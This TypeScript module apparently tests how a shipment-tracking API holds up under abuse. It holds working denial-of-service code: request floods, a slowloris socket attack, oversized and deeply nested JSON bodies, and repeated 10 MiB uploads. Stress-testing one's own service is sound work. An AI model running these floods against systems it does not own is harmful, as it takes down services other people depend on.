import { randomBytes, randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { Pool } from 'undici';

/** What an attack is aimed at, and the keys that it has. */
export interface Target {
  /** Of the API, with the major version. */
  baseUrl: string;
  /** Valid keys of another account than the reader's. */
  shipperKey: string;
  carrierKey: string;
  /** A shipment of that account which is in transit. */
  trackingNumber: string;
}

/** Sends until the signal aborts. @returns how many requests had which status; 0 stands for a broken connection */
export type Attack = (target: Target, signal: AbortSignal) => Promise<Record<string, number>>;

interface Shot {
  method: 'GET' | 'POST' | 'PUT';
  path: string;
  headers?: Record<string, string>;
  body?: string | Uint8Array;
}

const mebibyte = 1024 * 1024;
const base62 = (length: number): string =>
  randomBytes(length * 2)
    .toString('base64url')
    .replace(/[-_]/g, '')
    .slice(0, length);

/** Sends the next request on each connection as soon as the one before has its response. */
function flood(connections: number, next: (target: Target) => Shot): Attack {
  return async (target, signal) => {
    const url = new URL(target.baseUrl);
    const pool = new Pool(url.origin, { connections, pipelining: 1 });
    const statuses: Record<string, number> = {};
    const send = async (): Promise<void> => {
      while (!signal.aborted) {
        const { path, ...shot } = next(target);
        let status = 0;
        try {
          const response = await pool.request({ ...shot, path });
          await response.body.dump();
          status = response.statusCode;
        } catch {
          await setTimeout(10); // a refused connection is repeated, not spun on
        }
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
    };
    await Promise.all(Array.from({ length: connections }, send));
    await pool.destroy();
    return statuses;
  };
}

const get = (path: string) => (): Shot => ({ method: 'GET', path });
const api = ({ baseUrl }: Target, path: string): string => new URL(baseUrl).pathname + path;

/** A body of up to 1 MiB: `start`, then `item` as often as fits, then `end`. */
function filled(start: string, item: string, end: string): string {
  const room = mebibyte - start.length - end.length;
  return (
    start +
    Array(Math.floor((room + 1) / (item.length + 1)))
      .fill(item)
      .join(',') +
    end
  );
}

const positions =
  (body: string) =>
  (target: Target): Shot => ({
    method: 'POST',
    path: api(target, `/tracking/${target.trackingNumber}/positions`),
    headers: { authorization: `Bearer ${target.carrierKey}`, 'content-type': 'application/json' },
    body,
  });

/** Sockets that send a byte of a request head every 100 ms and never finish it. */
const slowSockets: Attack = async ({ baseUrl }, signal) => {
  const { hostname, port } = new URL(baseUrl);
  let opened = 0;
  const crawl = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {});
      opened++;
      socket.write('GET /v1/shipments HTTP/1.1\r\nHost: a\r\nX-Slow: ');
      while (!signal.aborted && !socket.destroyed) {
        socket.write('y');
        await setTimeout(100);
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 1000 }, crawl));
  return { 'sockets opened': opened };
};

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Declares an upload of 10 MiB and sends it, again and again. */
const uploads: Attack = async (target, signal) => {
  const file = Buffer.concat([png, Buffer.alloc(10 * mebibyte - png.length)]);
  const { createHash } = await import('node:crypto');
  const sha256 = createHash('sha256').update(file).digest('hex');
  const statuses: Record<string, number> = {};
  const count = (what: string): void => {
    statuses[what] = (statuses[what] ?? 0) + 1;
  };
  const send = async (): Promise<void> => {
    while (!signal.aborted) {
      const declared = await fetch(`${target.baseUrl}/tracking/${target.trackingNumber}/pod/uploads`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${target.carrierKey}`,
          'content-type': 'application/json',
          'idempotency-key': randomUUID(),
        },
        body: JSON.stringify({ kind: 'photo', content_type: 'image/png', size: file.length, sha256 }),
      });
      count(`declared ${declared.status}`);
      const { upload_url } = (await declared.json()) as { upload_url?: string };
      if (!upload_url) continue;
      const headers = { 'content-type': 'image/png' };
      const stored = await fetch(upload_url, { method: 'PUT', headers, body: file }).catch(() => ({ status: 0 }));
      count(`stored ${stored.status}`);
    }
  };
  await Promise.all(Array.from({ length: 8 }, send));
  return statuses;
};

/** By the name that the table prints. */
export const attacks: Record<string, Attack> = {
  'unknown keys': flood(32, (target) => ({
    method: 'GET',
    path: api(target, '/shipments'),
    headers: { authorization: `Bearer wbk_${base62(12)}_${base62(40)}` },
  })),
  'ready probes': flood(32, get('/health/ready')),
  'contract document': flood(32, get('/openapi.json')),
  'slow sockets': slowSockets,
  'positions: 1 MiB of {}': flood(4, positions(filled('{"positions":[', '{}', ']}'))),
  'positions: 1 MiB of {"updated_at":""}': flood(1, positions(filled('{"positions":[', '{"updated_at":""}', ']}'))),
  'positions: 500,000 nested arrays': flood(4, positions('['.repeat(mebibyte / 2) + ']'.repeat(mebibyte / 2))),
  'shipments: 90,000 unknown fields': flood(4, (target) => ({
    method: 'POST',
    path: api(target, '/shipments'),
    headers: { authorization: `Bearer ${target.shipperKey}`, 'content-type': 'application/json' },
    body: `{${Array.from({ length: 90_000 }, (_, n) => `"k${n}":0`).join(',')}}`,
  })),
  'uploads of 10 MiB': uploads,
};
